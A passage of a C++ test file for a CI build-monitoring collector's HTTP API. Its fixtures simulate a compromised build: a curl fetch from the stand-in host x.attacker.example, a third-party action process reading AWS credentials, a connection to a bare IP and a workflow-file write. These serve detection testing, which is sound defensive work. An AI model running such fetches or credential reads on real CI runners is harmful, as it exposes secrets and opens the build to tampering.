// The read API's builds, events, process tree, egress, agents and search
// (collector/api/, docs/collector-api.md) in the real collector over real
// HTTP: four agents' signed batches posted to /v1/batches, the detector
// run, then every endpoint asked with a bearer token and its answers held
// against the events the test sealed -- pages walked to the end with no
// repeat and no gap, filters, integrity (verified, gap, loss,
// unmonitored), 401 without a token, 404s, 400s with a one-line error,
// and valid JSON whatever bytes a build recorded. Also the search query
// parser and its index ranges on their own.
#include <curl/curl.h>
#include <doctest/doctest.h>
#include <rapidjson/document.h>
#include <rapidjson/error/en.h>
#include <rapidjson/stringbuffer.h>
#include <rapidjson/writer.h>

#include <algorithm>
#include <functional>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "collector/api/cursor.h"
#include "collector/api/search_query.h"
#include "collector/store/store.h"
#include "common/clock.h"
#include "common/events/json.h"
#include "tests/collector/alert_fixtures.h"
#include "tests/collector/collector_process.h"

using namespace bt;
using namespace bt::testing;

namespace {

const std::string kBashSha(64, 'a');
const std::string kCurlSha = "c0ffee" + std::string(58, '1');
const std::string kTarSha(64, 'b');

HttpResponse get_with(const std::string& url, const std::string& token) { return get_bearer(url, token); }

std::string escape(const std::string& s) {
  CURL* c = curl_easy_init();
  char* e = curl_easy_escape(c, s.c_str(), static_cast<int>(s.size()));
  std::string out(e);
  curl_free(e);
  curl_easy_cleanup(c);
  return out;
}

// Strict: the answer must be valid UTF-8 JSON, one object, one newline.
rapidjson::Document parse(const std::string& text) {
  rapidjson::Document d;
  d.Parse<rapidjson::kParseValidateEncodingFlag>(text.c_str(), text.size());
  REQUIRE_MESSAGE(!d.HasParseError(), rapidjson::GetParseError_En(d.GetParseError()), " in ", text);
  REQUIRE(d.IsObject());
  CHECK(text.find('\n') == text.size() - 1);
  return d;
}

std::string str(const rapidjson::Value& v) {
  return v.IsString() ? std::string(v.GetString(), v.GetStringLength()) : "";
}

struct BuildId {
  std::string ci = "github", id, job = "ci/build", repository = "acme/payments", branch = "main";
};

// An event of build `b` by process `key` (child of `parent`).
events::Event ev(const std::string& agent, const BuildId& b, uint64_t t, events::Body body, const std::string& key,
                 const std::string& parent = "1-1", const std::string& exe = "/usr/bin/bash") {
  events::Event e;
  e.time_ns = t;
  e.host = "host-" + agent;
  e.agent_id = agent;
  e.build.ci = b.ci;
  e.build.id = b.id;
  e.build.job = b.job;
  e.build.repository = b.repository;
  e.build.branch = b.branch;
  e.process.pid = std::stoull(key.substr(0, key.find('-')));
  e.process.ppid = std::stoull(parent.substr(0, parent.find('-')));
  e.process.key = key;
  e.process.parent_key = parent;
  e.process.exe = exe;
  e.body = std::move(body);
  return e;
}

events::ProcessExec exec_of(std::vector<std::string> argv, const std::string& sha) {
  events::ProcessExec x;
  x.argv = std::move(argv);
  x.cwd = "/work";
  x.exe_sha256 = sha;
  x.stdin_fd.kind = "null";
  x.stdout_fd.kind = "pipe";
  x.stdout_fd.inode = 7;
  x.stderr_fd.kind = "tty";
  return x;
}

events::ProcessExit exit_of(int64_t code) {
  events::ProcessExit x;
  x.exit_code = code;
  return x;
}

events::BuildStart start_of(const std::string& mode) {
  events::BuildStart s;
  s.mode = mode;
  return s;
}

// The build_end closing `so_far` (the build's events before it), with the
// counts per kind an agent records (itself included), plus `extra` events
// of kinds the collector never got.
events::BuildEnd end_of(const std::vector<events::Event>& so_far, int64_t code, const events::Counts& extra = {}) {
  std::map<std::string, uint64_t> n;
  for (const auto& e : so_far) ++n[std::string(events::kind_name(e.kind()))];
  ++n["build_end"];
  for (const auto& [k, c] : extra) n[k] += c;
  events::BuildEnd b;
  b.exit_code = code;
  for (const auto& [k, c] : n) b.counts.emplace_back(k, c);
  return b;
}

// Build A: a small real-looking build of agent-a, its process tree
//   bash 100-1 -> make 101-1 -> cc 102-1 .. 105-1
//              -> curl 200-1 (DNS x.attacker.example, connects to it)
//              -> node 300-1 (tj-actions/changed-files; a bare IP, a secret, a workflow file)
//              -> printf 400-1 (argv that is not UTF-8, with an escape sequence)
//              -> a subshell 450-1 that never execs (known by its exit)
// with an upload; three batches.
std::vector<std::vector<events::Event>> build_a(const std::string& agent, uint64_t t0) {
  const BuildId a{"github", "run-a", "ci/build", "acme/payments", "main"};
  uint64_t t = t0;
  std::vector<events::Event> all;
  auto add = [&](events::Body body, const std::string& key, const std::string& parent = "1-1",
                 const std::string& exe = "/usr/bin/bash") {
    all.push_back(ev(agent, a, t += 1000, body, key, parent, exe));
  };
  add(start_of("wrap"), "100-1");
  add(exec_of({"bash", "-e", "step.sh"}, kBashSha), "100-1");
  add(exec_of({"make", "-j4"}, std::string(64, 'd')), "101-1", "100-1", "/usr/bin/make");
  for (int i = 2; i <= 5; ++i)
    add(exec_of({"cc", "-c", "f" + std::to_string(i) + ".c"}, std::string(64, 'e')), "10" + std::to_string(i) + "-1",
        "101-1", "/usr/bin/cc");
  for (int i = 2; i <= 5; ++i) add(exit_of(0), "10" + std::to_string(i) + "-1", "101-1", "/usr/bin/cc");
  add(exec_of({"curl", "-s", "https://x.attacker.example/p"}, kCurlSha), "200-1", "100-1", "/usr/bin/curl");
  events::DnsQuery q;
  q.name = "X.Attacker.example";
  q.qtype = "A";
  q.answers = {"203.0.113.9"};
  add(q, "200-1", "100-1", "/usr/bin/curl");
  events::NetConnect c;
  c.protocol = "tcp";
  c.daddr = "203.0.113.9";
  c.dport = 443;
  c.dns_name = "x.attacker.example";
  add(c, "200-1", "100-1", "/usr/bin/curl");
  add(exec_of({"node", "/home/runner/work/_actions/tj-actions/changed-files/v45/dist/index.js"}, std::string(64, 'f')),
      "300-1", "100-1", "/usr/bin/node");
  events::NetConnect bare;
  bare.protocol = "tcp";
  bare.daddr = "198.51.100.7";
  bare.dport = 8080;
  add(bare, "300-1", "100-1", "/usr/bin/node");
  events::SecretAccess s;
  s.rule = "aws-credentials";
  s.secret_class = "cloud";
  s.access = "open_read";
  s.path = "/home/runner/.aws/credentials";
  add(s, "300-1", "100-1", "/usr/bin/node");
  events::FileWrite w;
  w.operation = "create";
  w.path = "/work/.github/workflows/ci.yml";
  w.rule = "ci-config";
  w.sha256 = std::string(64, '9');
  add(w, "300-1", "100-1", "/usr/bin/node");
  events::ArtifactUpload u;
  u.tool = "aws-s3";
  u.destination = "s3://acme-artifacts/out.tar";
  u.files = {{"/work/out.tar", 10240, kTarSha, "101-1"}};
  add(u, "100-1");
  add(exec_of({"printf", "\xff\xfe not utf-8", "\x1b[31mred\x1b[0m\n"}, std::string(64, '2')), "400-1", "100-1",
      "/usr/bin/printf");
  for (const char* k : {"101-1", "200-1", "300-1", "400-1"}) add(exit_of(k[0] == '4' ? 1 : 0), k, "100-1");
  add(exit_of(0), "450-1", "100-1");  // a subshell: forked, never exec'd
  add(exit_of(0), "100-1");
  add(end_of(all, 0), "100-1");
  // Three batches: the tree spans them.
  const std::size_t third = all.size() / 3;
  return {std::vector<events::Event>(all.begin(), all.begin() + third),
          std::vector<events::Event>(all.begin() + third, all.begin() + 2 * third),
          std::vector<events::Event>(all.begin() + 2 * third, all.end())};
}

// A small build: start, one exec of bash, end.
std::vector<events::Event> small_build(const std::string& agent, const std::string& id, uint64_t t, int64_t code,
                                       const std::string& branch = "main") {
  const BuildId b{"github", id, "ci/build", "acme/payments", branch};
  std::vector<events::Event> out = {ev(agent, b, t, start_of("wrap"), "500-1"),
                                    ev(agent, b, t + 10, exec_of({"bash", "-c", "true"}, kBashSha), "500-1")};
  out.push_back(ev(agent, b, t + 20, end_of(out, code), "500-1"));
  return out;
}

events::Event agent_start(const std::string& agent, uint64_t t, const std::string& mode) {
  events::AgentStart s;
  s.version = "0.1.0";
  s.mode = mode;
  events::Event e;
  e.time_ns = t;
  e.host = "host-" + agent;
  e.agent_id = agent;
  e.process.pid = 1;
  e.process.key = "1-1";
  e.body = s;
  return e;
}

// Walks every page of `url` (a query without `after`), collecting each
// item of `array`; checks each page's size and that a cursor moves on.
std::vector<rapidjson::Document> all_pages(const std::string& url, const std::string& token, const char* array,
                                           std::size_t limit, int* pages_out = nullptr) {
  std::vector<rapidjson::Document> items;
  std::string after;
  int pages = 0;
  do {
    const std::string sep = url.find('?') == std::string::npos ? "?" : "&";
    auto r = get_with(url + sep + "limit=" + std::to_string(limit) + (after.empty() ? "" : "&after=" + escape(after)),
                      token);
    REQUIRE_MESSAGE(r.status == 200, url, " ", r.body);
    auto d = parse(r.body);
    REQUIRE(d[array].IsArray());
    CHECK(d[array].Size() <= limit);
    for (auto& item : d[array].GetArray()) {
      rapidjson::Document copy;
      copy.CopyFrom(item, copy.GetAllocator());
      items.push_back(std::move(copy));
    }
    const std::string next = d["next"].IsNull() ? "" : str(d["next"]);
    if (!next.empty()) CHECK(next != after);
    after = next;
    ++pages;
  } while (!after.empty() && pages < 1000);
  if (pages_out) *pages_out = pages;
  return items;
}

std::string tool() { return build_path("collector/buildtrail-collector"); }

std::string create_token(const std::string& data) {
  auto r = run_command(tool() + " tokens create --data " + data + " --name ui --role viewer");
  REQUIRE_MESSAGE(r.exit_code == 0, r.output);
  std::string out = r.output;
  while (!out.empty() && out.back() == '\n') out.pop_back();
  return out.substr(out.rfind('\n') + 1);
}

// The collector with four agents' builds stored and detected.
struct Fleet {
  CollectorData env{"api-builds"};
  std::unique_ptr<CollectorProcess> collector;
  std::string token;
  std::vector<events::Event> a_events;  // build A's, in order
  std::map<std::string, int64_t> ref;   // CI build id -> record id
  std::vector<std::string> paged;       // the small builds' CI ids

  Fleet() {
    const auto ka = test_key(51), kb = test_key(52), kc = test_key(53), kd = test_key(54);
    env.add_agent("agent-a", ka);
    env.add_agent("agent-b", kb);
    env.add_agent("agent-c", kc);
    env.add_agent("agent-d", kd);
    collector = std::make_unique<CollectorProcess>(env.data);
    REQUIRE(collector->running());

    // agent-a: its start, build A in three batches, then 23 small builds
    // four to a batch (one failing in three, one on branch dev in four).
    auto batches = build_a("agent-a", kT0);
    batches.front().insert(batches.front().begin(), agent_start("agent-a", kT0, "run"));
    for (const auto& b : batches)
      for (const auto& e : b)
        if (!e.build.id.empty()) a_events.push_back(e);
    std::vector<events::Event> group;
    for (int i = 0; i < 23; ++i) {
      const std::string id = "run-p" + std::to_string(i);
      paged.push_back(id);
      auto b =
          small_build("agent-a", id, kT0 + 1000000000ull * (i + 1), i % 3 == 0 ? 1 : 0, i % 4 == 0 ? "dev" : "main");
      group.insert(group.end(), b.begin(), b.end());
      if (group.size() == 12 || i == 22) {
        batches.push_back(group);
        group.clear();
      }
    }
    post_all(ka, "agent-a", batches);

    // agent-b: one build run without capture, failing.
    const BuildId b{"github", "run-b", "ci/web", "acme/web", "dev"};
    std::vector<events::Event> be = {ev("agent-b", b, kT0 + 5, start_of("unmonitored"), "600-1")};
    be.push_back(ev("agent-b", b, kT0 + 6, end_of(be, 1), "600-1"));
    post_all(kb, "agent-b", {be});

    // agent-c: a Jenkins build whose middle batch (seq 2) never arrives.
    const BuildId c{"jenkins", "jenkins-c-1", "folder/job", "https://git.example/c.git", "main"};
    std::vector<events::Event> c1 = {ev("agent-c", c, kT0 + 7, start_of("daemon"), "700-1"),
                                     ev("agent-c", c, kT0 + 8, exec_of({"sh", "build.sh"}, kBashSha), "700-1")};
    std::vector<events::Event> c3 = {ev("agent-c", c, kT0 + 10, exec_of({"true"}, kBashSha), "701-1", "700-1")};
    std::vector<events::Event> both = c1;
    both.insert(both.end(), c3.begin(), c3.end());
    c3.push_back(ev("agent-c", c, kT0 + 11, end_of(both, 0, {{"process_exec", 1}}), "700-1"));
    const auto sealed = seal_seqs(kc, "agent-c", {{1, c1}, {3, c3}});
    for (const auto& s : sealed)
      REQUIRE(post(collector->url("/v1/batches"), {s.bytes.begin(), s.bytes.end()}).status == 200);

    // agent-d: a build that lost events.
    const BuildId d{"github", "run-d", "ci/build", "acme/payments", "main"};
    std::vector<events::Event> de = {ev("agent-d", d, kT0 + 12, start_of("daemon"), "800-1"),
                                     loss("agent-d", kT0 + 13, "run-d")};
    de[1].build = de[0].build;
    de.push_back(ev("agent-d", d, kT0 + 14, end_of(de, 0), "800-1"));
    post_all(kd, "agent-d", {de});

    REQUIRE(detected_all(env.data));
    token = create_token(env.data);
    auto st = collector::store::open_sqlite(env.data, {true, 5000}).value();
    const auto rows = st->builds({}).value();
    for (const auto& row : rows) ref[row.build.id] = row.id;
    REQUIRE(ref.size() == 27);
  }

  void post_all(const crypto::KeyPair& key, const std::string& agent,
                const std::vector<std::vector<events::Event>>& b) {
    for (const auto& s : seal(key, agent, b))
      REQUIRE(post(collector->url("/v1/batches"), {s.bytes.begin(), s.bytes.end()}).status == 200);
  }

  std::string url(const std::string& path) const { return collector->url(path); }
  rapidjson::Document get_json(const std::string& path) const {
    auto r = get_with(url(path), token);
    REQUIRE_MESSAGE(r.status == 200, path, " ", r.body);
    return parse(r.body);
  }
  std::string a() const { return std::to_string(ref.at("run-a")); }
};

std::vector<int64_t> ids_of(const std::vector<rapidjson::Document>& builds) {
  std::vector<int64_t> out;
  for (const auto& b : builds) out.push_back(b["id"].GetInt64());
  return out;
}

std::set<std::string> ci_ids(const std::vector<rapidjson::Document>& builds) {
  std::set<std::string> out;
  for (const auto& b : builds) out.insert(str(b["build_id"]));
  return out;
}

}  // namespace

TEST_CASE("api: builds, events, tree, egress, agents and search over real HTTP") {
  Fleet f;
  const std::string& token = f.token;

  SUBCASE("every endpoint needs a token; unknown paths and records are 404; bad parameters 400 in one line") {
    for (const std::string& path :
         {std::string("/v1/builds"), "/v1/builds/" + f.a(), "/v1/builds/" + f.a() + "/events",
          "/v1/builds/" + f.a() + "/tree", "/v1/builds/" + f.a() + "/egress", "/v1/builds/" + f.a() + "/secrets",
          "/v1/builds/" + f.a() + "/uploads", "/v1/builds/" + f.a() + "/file-writes", "/v1/builds/" + f.a() + "/alerts",
          std::string("/v1/agents"), std::string("/v1/search?q=argv:x")}) {
      auto r = get_with(f.url(path), "");
      CHECK_MESSAGE(r.status == 401, path);
      CHECK(parse(r.body)["error"].IsString());
      CHECK_MESSAGE(get_with(f.url(path), token).status == 200, path);
    }
    for (const std::string& path :
         {std::string("/v1/builds/999999"), std::string("/v1/builds/abc"), std::string("/v1/builds/0/tree"),
          std::string("/v1/builds/999999/events"), "/v1/builds/" + f.a() + "/nothing", std::string("/v1/builds/"),
          "/v1/builds/" + f.a() + "/tree/x", std::string("/v1/agents/agent-a"),
          "/v1/builds/" + f.a() + "/tree?root=no-such-key"}) {
      auto r = get_with(f.url(path), token);
      CHECK_MESSAGE(r.status == 404, path, " ", r.body);
      CHECK(parse(r.body)["error"].IsString());
    }
    for (const std::string& path : {
             std::string("/v1/builds?limit=0"),
             std::string("/v1/builds?limit=501"),
             std::string("/v1/builds?status=broken"),
             std::string("/v1/builds?since=yesterday"),
             std::string("/v1/builds?incomplete=yes"),
             std::string("/v1/builds?after=x"),
             std::string("/v1/builds?after=1.2"),
             std::string("/v1/builds?colour=red"),
             std::string("/v1/builds?job=a&job=b"),
             "/v1/builds/" + f.a() + "?limit=5",
             "/v1/builds/" + f.a() + "/events?kind=nope",
             "/v1/builds/" + f.a() + "/events?kind=process_exec,",
             "/v1/builds/" + f.a() + "/events?after=5",
             "/v1/builds/" + f.a() + "/events?limit=2001",
             "/v1/builds/" + f.a() + "/secrets?kind=process_exec",
             "/v1/builds/" + f.a() + "/tree?depth=-1",
             "/v1/builds/" + f.a() + "/tree?after=123456789",
             "/v1/builds/" + f.a() + "/egress?after=zz",
             "/v1/builds/" + f.a() + "/alerts?build=3",
             std::string("/v1/agents?after=abc"),
             std::string("/v1/search"),
             std::string("/v1/search?q=") + escape("exe_sha256:1234"),
             std::string("/v1/search?q=") + escape("since:1h"),
             std::string("/v1/search?q=") + escape("dest:a dest:b"),
             std::string("/v1/search?q=") + escape("colour:red"),
             std::string("/v1/search?q=") + escape("argv:\"open"),
             std::string("/v1/search?q=") + escape("argv:x since:2026-01-02 until:2026-01-01"),
         }) {
      auto r = get_with(f.url(path), token);
      CHECK_MESSAGE(r.status == 400, path, " ", r.body);
      CHECK(parse(r.body)["error"].IsString());
    }
  }

  SUBCASE("GET /v1/builds: pages of 7 cover every record once, newest first; filters") {
    int pages = 0;
    const auto all = all_pages(f.url("/v1/builds"), token, "builds", 7, &pages);
    const auto ids = ids_of(all);
    CHECK(ids.size() == 27);
    CHECK(pages == 4);
    CHECK(std::is_sorted(ids.rbegin(), ids.rend()));
    CHECK(std::set<int64_t>(ids.begin(), ids.end()).size() == ids.size());
    auto ci_of = [&](const std::string& query) {
      return ci_ids(all_pages(f.url("/v1/builds?" + query), token, "builds", 500));
    };
    CHECK(ci_of("ci=jenkins") == std::set<std::string>{"jenkins-c-1"});
    CHECK(ci_of("repository=acme/web") == std::set<std::string>{"run-b"});
    CHECK(ci_of("job=folder/job") == std::set<std::string>{"jenkins-c-1"});
    std::set<std::string> dev = {"run-b"}, failed = {"run-b"};
    for (int i = 0; i < 23; ++i) {
      if (i % 4 == 0) dev.insert("run-p" + std::to_string(i));
      if (i % 3 == 0) failed.insert("run-p" + std::to_string(i));
    }
    CHECK(ci_of("branch=dev") == dev);
    CHECK(ci_of("status=failed") == failed);
    CHECK(ci_of("status=running").empty());
    CHECK(ci_of("status=passed").size() == 27 - failed.size());
    CHECK(ci_of("incomplete=1") == std::set<std::string>{"run-b", "jenkins-c-1", "run-d"});
    CHECK(ci_of("incomplete=0").size() == 24);
    // Times: the small builds are one second apart from kT0 + 1 s.
    CHECK(ci_of("since=" + std::to_string(kT0 + 20500000000ull)) ==
          std::set<std::string>{"run-p20", "run-p21", "run-p22"});
    CHECK(ci_of("until=" + std::to_string(kT0 + 900000000ull)).count("run-p0") == 0);
    CHECK(ci_of("until=" + std::to_string(kT0 + 900000000ull)).count("run-a") == 1);
    CHECK(ci_of("since=2h").empty());  // kT0 is days ago
    // Alerts: what the detector raised on each record, both ways.
    const auto with = ci_of("has_alerts=1");
    const auto without = ci_of("has_alerts=0");
    CHECK(with.size() + without.size() == 27);
    for (const char* id : {"run-b", "jenkins-c-1", "run-d"}) CHECK_MESSAGE(with.count(id), id);
    for (const auto& b : all) CHECK((b["alerts"].GetUint64() > 0) == (with.count(str(b["build_id"])) == 1));
    // Filters combine, and page.
    const auto combined = all_pages(f.url("/v1/builds?branch=main&status=passed&ci=github"), token, "builds", 2);
    for (const auto& b : combined) {
      CHECK(str(b["branch"]) == "main");
      CHECK(str(b["status"]) == "passed");
    }
    std::size_t expected = 2;  // run-a, run-d
    for (int i = 0; i < 23; ++i) expected += i % 4 != 0 && i % 3 != 0;
    CHECK(combined.size() == expected);
  }

  SUBCASE("GET /v1/builds/{id}: counts, integrity and the findings behind it") {
    auto a = f.get_json("/v1/builds/" + f.a());
    CHECK(str(a["build"]["integrity"]) == "verified");
    CHECK(str(a["build"]["status"]) == "passed");
    CHECK(a["build"]["exit_code"].GetInt64() == 0);
    CHECK(str(a["build"]["mode"]) == "wrap");
    CHECK(str(a["build"]["branch"]) == "main");
    CHECK(str(a["build"]["host"]).empty());  // added by `agents add`: no inventory
    CHECK(a["build"]["events"].GetUint64() == f.a_events.size());
    CHECK(a["counts"]["process_exec"].GetUint64() == 9);
    CHECK(a["counts"]["process_exit"].GetUint64() == 10);
    CHECK(a["counts"]["net_connect"].GetUint64() == 2);
    CHECK(a["findings"].Size() == 0);
    CHECK(a["chain"]["first"]["seq"].GetUint64() == 1);
    CHECK(a["chain"]["last"]["seq"].GetUint64() == 3);

    auto b = f.get_json("/v1/builds/" + std::to_string(f.ref.at("run-b")));
    CHECK(str(b["build"]["integrity"]) == "unmonitored");
    CHECK(b["unmonitored_starts"].GetUint64() == 1);
    CHECK(str(b["build"]["status"]) == "failed");

    auto c = f.get_json("/v1/builds/" + std::to_string(f.ref.at("jenkins-c-1")));
    CHECK(str(c["build"]["integrity"]) == "gap");
    REQUIRE(c["findings"].Size() == 1);
    CHECK(str(c["findings"][0]["kind"]) == "gap");
    CHECK(c["findings"][0]["seq_from"].GetUint64() == 2);
    CHECK(c["findings"][0]["seq_to"].GetUint64() == 2);
    CHECK(c["findings"][0]["open"].GetBool());

    auto d = f.get_json("/v1/builds/" + std::to_string(f.ref.at("run-d")));
    CHECK(str(d["build"]["integrity"]) == "loss");
    CHECK(d["lost_events"].GetUint64() == 7);
    CHECK(d["findings"].Size() == 1);
    CHECK(str(d["findings"][0]["kind"]) == "loss");
  }

  SUBCASE("events: pages of 4 are build A's events once each, in order, as sealed; kinds and views") {
    const auto events = all_pages(f.url("/v1/builds/" + f.a() + "/events"), token, "events", 4);
    REQUIRE(events.size() == f.a_events.size());
    events::JsonLineReader reader;
    std::set<std::pair<uint64_t, uint64_t>> places;
    for (std::size_t i = 0; i < events.size(); ++i) {
      const auto& item = events[i];
      rapidjson::StringBuffer buf;
      rapidjson::Writer<rapidjson::StringBuffer> w(buf);
      item["event"].Accept(w);
      auto e = reader.parse(std::string_view(buf.GetString(), buf.GetSize()));
      REQUIRE_MESSAGE(e.ok(), buf.GetString());
      auto expected = f.a_events[i];
      // Bytes that are not UTF-8 come back as U+FFFD; everything else as sealed.
      if (auto* x = std::get_if<events::ProcessExec>(&expected.body); x && x->argv[0] == "printf") {
        const auto& got = std::get<events::ProcessExec>(e->body);
        CHECK(got.argv[1] == "\xef\xbf\xbd\xef\xbf\xbd not utf-8");
        CHECK(got.argv[2] == "\x1b[31mred\x1b[0m\n");  // escaped in JSON, itself after decoding
        continue;
      }
      CHECK_MESSAGE(*e == expected, buf.GetString());
      CHECK(item["time_ns"].GetUint64() == expected.time_ns);
      CHECK_FALSE(item["time_out_of_range"].GetBool());
      places.insert({item["seq"].GetUint64(), item["line"].GetUint64()});
    }
    CHECK(places.size() == events.size() - 1);
    const auto net_page = f.get_json("/v1/builds/" + f.a() + "/events?kind=net_connect,dns_query&limit=2000");
    const auto nets = net_page["events"].GetArray();
    REQUIRE(nets.Size() == 3);
    CHECK(str(nets[0]["event"]["kind"]) == "dns_query");
    CHECK(str(nets[1]["event"]["data"]["dns_name"]) == "x.attacker.example");
    auto uploads = f.get_json("/v1/builds/" + f.a() + "/uploads");
    REQUIRE(uploads["events"].Size() == 1);
    CHECK(str(uploads["events"][0]["event"]["data"]["files"][0]["sha256"]) == kTarSha);
    CHECK(f.get_json("/v1/builds/" + f.a() + "/secrets")["events"].Size() == 1);
    auto writes = f.get_json("/v1/builds/" + f.a() + "/file-writes");
    REQUIRE(writes["events"].Size() == 1);
    CHECK(str(writes["events"][0]["event"]["data"]["path"]) == "/work/.github/workflows/ci.yml");
    // Time bounds.
    const uint64_t mid = f.a_events[10].time_ns;
    CHECK(f.get_json("/v1/builds/" + f.a() + "/events?limit=2000&since=" + std::to_string(mid))["events"].Size() ==
          f.a_events.size() - 10);
    // The answers are valid JSON with the escape sequence escaped.
    auto raw = get_with(f.url("/v1/builds/" + f.a() + "/events?kind=process_exec&limit=2000"), token);
    CHECK(raw.body.find('\x1b') == std::string::npos);
    CHECK(raw.body.find("31mred") != std::string::npos);
  }

  SUBCASE("tree: top level and two levels, a subtree on demand, pages of 3 over the whole tree") {
    auto top = f.get_json("/v1/builds/" + f.a() + "/tree");
    CHECK(top["processes"].GetUint64() == 10);
    const auto nodes = top["nodes"].GetArray();
    // bash at depth 0; make, curl, node, printf, the subshell at 1; the four cc at 2.
    REQUIRE(nodes.Size() == 10);
    CHECK(str(nodes[0]["key"]) == "100-1");
    CHECK(nodes[0]["depth"].GetInt64() == 0);
    CHECK(nodes[0]["children"].GetUint64() == 5);
    CHECK(str(nodes[1]["key"]) == "101-1");
    CHECK(str(nodes[2]["key"]) == "102-1");
    CHECK(nodes[2]["depth"].GetInt64() == 2);
    CHECK(str(nodes[6]["key"]) == "200-1");
    CHECK(str(nodes[0]["execs"][0]["argv"][2]) == "step.sh");
    CHECK(str(nodes[0]["execs"][0]["exe_sha256"]) == kBashSha);
    CHECK(str(nodes[0]["execs"][0]["stdout"]["kind"]) == "pipe");
    CHECK(nodes[0]["execs"][0]["stdout"]["inode"].GetUint64() == 7);
    CHECK(nodes[0]["exit_code"].GetInt64() == 0);
    CHECK(nodes[8]["exit_code"].GetInt64() == 1);  // printf
    CHECK(str(nodes[6]["exe_sha256"]) == kCurlSha);
    CHECK(str(nodes[9]["key"]) == "450-1");
    CHECK(str(nodes[9]["parent_key"]) == "100-1");
    CHECK(nodes[9]["execs"].Size() == 0);
    // depth 1: make is not expanded but says it has 4 children.
    auto shallow = f.get_json("/v1/builds/" + f.a() + "/tree?depth=1");
    REQUIRE(shallow["nodes"].Size() == 6);
    CHECK(shallow["nodes"][1]["children"].GetUint64() == 4);
    CHECK_FALSE(shallow["nodes"][1]["expanded"].GetBool());
    CHECK(shallow["nodes"][0]["expanded"].GetBool());
    // ... and its subtree on demand.
    auto sub = f.get_json("/v1/builds/" + f.a() + "/tree?root=101-1&depth=1");
    REQUIRE(sub["nodes"].Size() == 5);
    CHECK(str(sub["root"]) == "101-1");
    for (unsigned i = 1; i < 5; ++i) CHECK(str(sub["nodes"][i]["parent_key"]) == "101-1");
    auto alone = f.get_json("/v1/builds/" + f.a() + "/tree?root=200-1&depth=0");
    CHECK(alone["nodes"].Size() == 1);
    // Pages.
    const auto paged = all_pages(f.url("/v1/builds/" + f.a() + "/tree?depth=1000"), token, "nodes", 3);
    std::vector<std::string> keys;
    for (const auto& n : paged) keys.push_back(str(n["key"]));
    std::vector<std::string> whole;
    for (const auto& n : nodes) whole.push_back(str(n["key"]));
    CHECK(keys == whole);
  }

  SUBCASE("egress: by DNS name with its processes, then by address") {
    auto e = f.get_json("/v1/builds/" + f.a() + "/egress");
    const auto d = e["destinations"].GetArray();
    REQUIRE(d.Size() == 2);
    CHECK(str(d[0]["name"]) == "x.attacker.example");
    CHECK(d[0]["connections"].GetUint64() == 1);
    CHECK(d[0]["queries"].GetUint64() == 1);
    CHECK(str(d[0]["addresses"][0]) == "203.0.113.9:443");
    REQUIRE(d[0]["processes"].Size() == 1);
    CHECK(str(d[0]["processes"][0]["exe"]) == "/usr/bin/curl");
    CHECK(d[1]["name"].IsNull());
    CHECK(str(d[1]["address"]) == "198.51.100.7:8080");
    CHECK(str(d[1]["processes"][0]["key"]) == "300-1");
    const auto paged = all_pages(f.url("/v1/builds/" + f.a() + "/egress"), token, "destinations", 1);
    CHECK(paged.size() == 2);
  }

  SUBCASE("a build's alerts are /v1/alerts for it") {
    const std::string d = std::to_string(f.ref.at("run-d"));
    auto mine = f.get_json("/v1/builds/" + d + "/alerts");
    auto same = f.get_json("/v1/alerts?build=" + d);
    CHECK(mine == same);
    CHECK(mine["alerts"].Size() >= 1);
  }

  SUBCASE("agents: pages of 3, by id, with mode and losses") {
    const auto agents = all_pages(f.url("/v1/agents"), token, "agents", 3);
    REQUIRE(agents.size() == 4);
    std::vector<std::string> ids;
    for (const auto& a : agents) ids.push_back(str(a["id"]));
    CHECK(ids == std::vector<std::string>{"agent-a", "agent-b", "agent-c", "agent-d"});
    CHECK(str(agents[0]["mode"]) == "run");
    CHECK(agents[0]["last_seq"].GetUint64() == 9);
    CHECK(agents[3]["lost_events"].GetUint64() == 7);
    CHECK(agents[2]["open_findings"].GetUint64() == 1);
    CHECK_FALSE(agents[0]["revoked"].GetBool());
  }

  SUBCASE("search: by exe digest, DNS name glob, exe glob, argv within time bounds; places; paging") {
    auto search = [&](const std::string& q, std::size_t limit = 100) {
      return all_pages(f.url("/v1/search?q=" + escape(q)), token, "builds", limit);
    };
    auto found = search("exe_sha256:" + kCurlSha);
    REQUIRE(found.size() == 1);
    CHECK(str(found[0]["build"]["build_id"]) == "run-a");
    const auto& m = found[0]["matches"][0];
    CHECK(str(m["term"]) == "exe_sha256:" + kCurlSha);
    REQUIRE(m["places"].Size() == 1);
    CHECK(str(m["places"][0]["process_key"]) == "200-1");
    // The place is where /events has the event.
    const auto exec_page = f.get_json("/v1/builds/" + f.a() + "/events?kind=process_exec&limit=2000");
    const auto events = exec_page["events"].GetArray();
    bool placed = false;
    for (const auto& e : events)
      placed = placed || (e["seq"] == m["places"][0]["seq"] && e["line"] == m["places"][0]["line"] &&
                          str(e["event"]["process"]["key"]) == "200-1");
    CHECK(placed);
    // Upper case digests are the same digest.
    std::string upper = kCurlSha;
    std::transform(upper.begin(), upper.end(), upper.begin(), ::toupper);
    CHECK(search("exe_sha256:" + upper).size() == 1);

    for (const char* q : {"dest:*.attacker.example", "dest:*.ATTACKER.example", "dest:x.attacker.example",
                          "dest:*attacker*", "dest:?.attacker.exampl?"}) {
      auto d = search(q);
      REQUIRE_MESSAGE(d.size() == 1, q);
      CHECK(str(d[0]["build"]["build_id"]) == "run-a");
      const auto& places = d[0]["matches"][0]["places"];
      REQUIRE(places.Size() == 2);  // the question and the connection
      CHECK(str(places[0]["kind"]) == "dns_query");
      CHECK(str(places[1]["kind"]) == "net_connect");
      CHECK(str(places[1]["value"]) == "x.attacker.example");
    }
    CHECK(search("dest:*.other.example").empty());
    CHECK(search("dest:attacker.example").empty());

    auto argv = search("argv:changed-files since:" + std::to_string(kT0) + " until:" + std::to_string(kT0 + 500000));
    REQUIRE(argv.size() == 1);
    CHECK(str(argv[0]["matches"][0]["places"][0]["value"]).find("tj-actions/changed-files") != std::string::npos);
    CHECK(search("argv:changed-files since:" + std::to_string(kT0 + 500000)).empty());
    CHECK(search("argv:changed-files until:" + std::to_string(kT0)).empty());
    CHECK(search("argv:changed-files branch:dev").empty());

    // Terms combine: all must hold in the build.
    CHECK(search("exe_sha256:" + kCurlSha + " dest:*.attacker.example argv:\"-s\"").size() == 1);
    CHECK(search("exe_sha256:" + kCurlSha + " dest:*.other.example").empty());

    // Every build ran bash with the same digest but run-b and run-d: pages of 4.
    auto bash = search("exe_sha256:" + kBashSha, 4);
    CHECK(bash.size() == 25);
    const auto ids = ids_of([&] {
